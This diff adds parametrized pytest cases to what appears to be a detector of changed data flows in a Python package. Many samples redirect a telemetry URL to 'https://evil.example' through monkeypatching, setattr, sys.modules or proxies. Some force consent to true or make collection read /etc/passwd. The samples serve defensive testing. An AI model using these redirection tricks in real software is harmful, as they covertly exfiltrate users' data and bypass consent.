@@ -283,3 +283,116 @@ def test_what_a_flow_takes_by_a_detour_belongs_to_it(
 
     assert old
     assert not (old & new) - {""}, "what has none is never the same"
+
+
+E = "'https://evil.example'"
+WITH_MORE = {
+    **RELEASE,
+    "sample/__init__.py": "from . import telemetry, extra\n",
+    "sample/extra.py": "x = 1\n",
+    SEND: FLOW.replace("def send()", "def send(url=URL)").replace("post(URL", "post(url"),
+    "sample/config.py": "HOSTS = ['https://telemetry.example']\nURL = HOSTS[0]\nOTHER = 1\n"
+    "def use(url):\n    global URL\n    URL = url\ndef describe():\n    return 'x'\n",
+    "sample/things.py": "from . import config\nfrom .config import HOSTS as H\n",
+}
+AFAR = [
+    f"from . import config\nconfig.URL = {E}",
+    f"import sample.config as c\nc.URL = {E}",
+    f"import sample\nsample.config.URL = {E}",
+    f"from .things import config as c\nc.URL = {E}",
+    f"from .things import *\nconfig.URL = {E}",
+    f"from .config import *\nHOSTS[0] = {E}",
+    f"from .things import H\nH.append({E})",
+    f"from .things import H\nw = H.insert(0, {E})",
+    f"from .things import H\nH[:] = [{E}]",
+    f"from .things import H\nH += [{E}]",
+    f"from .things import H\nh = H\nh.append({E})",
+    f"from .things import H\nclass A:\n    def f(self):\n        self.h = H\n        self.h[0] = {E}",
+    f"from .things import H\nlist.append(H, {E})",
+    f"import operator\nfrom .things import H\noperator.setitem(H, 0, {E})",
+    f"from .things import H\nH.__init__([{E}])",
+    f"from . import config\nfor config.URL in [{E}]: pass",
+    f"from . import config\n[0 for config.URL in [{E}]]",
+    f"from . import config\nwith open({E}) as config.URL: pass",
+    f"from . import config\nw, (config.URL, *y) = 1, ({E}, 2)",
+    f"from . import config\nconfig.URL += {E}",
+    f"from . import config\nconfig.URL: str = {E}",
+    "from . import config\ndel config.URL",
+    f"from . import config\nsetattr(config, 'URL', {E})",
+    f"from . import config\nsetattr(config, 'U' + 'RL', {E})",
+    f"from . import config\nsetattr(config, input(), {E})",
+    f"from . import config\nconfig.__setattr__('URL', {E})",
+    f"from . import config\nobject.__setattr__(config, 'URL', {E})",
+    f"from . import config\nconfig.__dict__['URL'] = {E}",
+    f"from . import config\nconfig.__dict__.update(URL={E})",
+    f"from . import config\nconfig.__dict__ |= {{'URL': {E}}}",
+    f"from . import config\nvars(config)['URL'] = {E}",
+    f"from . import config\nvars(config).update(URL={E})",
+    f"from . import config\nconfig.describe.__globals__['URL'] = {E}",
+    f"import sys\nsys.modules['sample.config'].URL = {E}",
+    f"import sys\nsys.modules['sample.con' + 'fig'].URL = {E}",
+    f"import sys\nsys.modules[input()].URL = {E}",
+    f"from sys import modules as m\nm['sample.config'].URL = {E}",
+    f"import importlib\nimportlib.import_module('sample.config').URL = {E}",
+    f"import importlib\nimportlib.import_module(input()).URL = {E}",
+    f"from importlib import import_module\nm = import_module(input())\nm.URL = {E}",
+    f"def change(m):\n    m.URL = {E}\nfrom . import config\nchange(config)",
+    f"from . import config\nc = config\nc.URL = {E}",
+    f"from . import config\nclass A:\n    c = config\nA.c.URL = {E}",
+    f"from . import config\nfor m in (config, 1):\n    m.URL = {E}",
+    "from . import config\nfrom .base import change\nchange(config)",
+    f"from .config import use\nuse({E})",
+    f"from . import config\nconfig.use(url={E})",
+    f"from . import telemetry\ntelemetry.send({E})",
+    f"from .telemetry import send as s\ns(url={E})",
+    f"from . import telemetry\ntelemetry.send.__defaults__ = ({E},)",
+    f"from unittest.mock import patch\npatch('sample.config.URL', {E}).start()",
+    "from . import consent\nconsent.given = lambda: True",
+    "from . import telemetry\ntelemetry.collect = lambda: open('/etc/passwd').read()",
+    "from . import telemetry\ndef f(): return 1\ntelemetry.collect.__code__ = f.__code__",
+    "from . import telemetry\ntelemetry.requests = __import__('evil')",
+    "import requests.adapters as a\na.HTTPAdapter.send = lambda *_: 1",
+    "import requests\nrequests.sessions.Session.proxies = {'https': 'https://evil.example'}",
+]  # fmt: skip
+NOT_AFAR = [
+    "from . import config\nprint(config.URL)",
+    "from . import config\nconfig.OTHER = 2",
+    "from . import config\nconfig.describe()",
+    "from . import telemetry\ntelemetry.send()",
+    "from .config import URL\nd = {}\nd[URL] = 1\nd.update(URL=URL)",
+    "from .config import URL, HOSTS\nx = [URL, *HOSTS]\nprint(x, len(x))",
+    "class A:\n    def __init__(self):\n        self.URL = 1\nA().URL = 2",
+    "import requests\nsession = requests.Session()\nsession.trust_env = False\nrequests.get('x')",
+    "import os\nos.environ['A'] = '1'\nos.environ.setdefault('B', '2')",
+]
+
+
+@pytest.mark.parametrize("code", AFAR)
+def test_what_another_module_changes_in_what_a_flow_uses_makes_it_another(
+    tmp_path: Path, code: str
+) -> None:
+    old = prints(tmp_path / "old", WITH_MORE)
+    files = {**WITH_MORE, "sample/extra.py": f"x = 1\n{code}\n"}
+
+    new = {each for each in prints(tmp_path / "new", files) if each}
+
+    assert not old & new
+    moved = {**WITH_MORE, "sample/other.py": f"z = 2\n\n{code}\n"}
+    detours = ("input()", "*\n", "importlib", "vars(", "__globals__", "__import__")
+    if not any(each in code for each in detours):
+        assert prints(tmp_path / "same", moved) & new, "it is the same in a later release"
+
+
+@pytest.mark.parametrize("code", NOT_AFAR)
+def test_what_another_module_does_without_changing_a_flow_leaves_it_the_same(
+    tmp_path: Path, code: str
+) -> None:
+    old = prints(tmp_path / "old", WITH_MORE)
+    files = {**WITH_MORE, "sample/extra.py": f"x = 1\n{code}\n"}
+
+    assert prints(tmp_path / "new", files) == old
+    tests = {
+        **WITH_MORE,
+        "sample/tests/test_extra.py": f"from .. import config\nconfig.URL = {E}\n",
+    }
+    assert prints(tmp_path / "tests", tests) == old
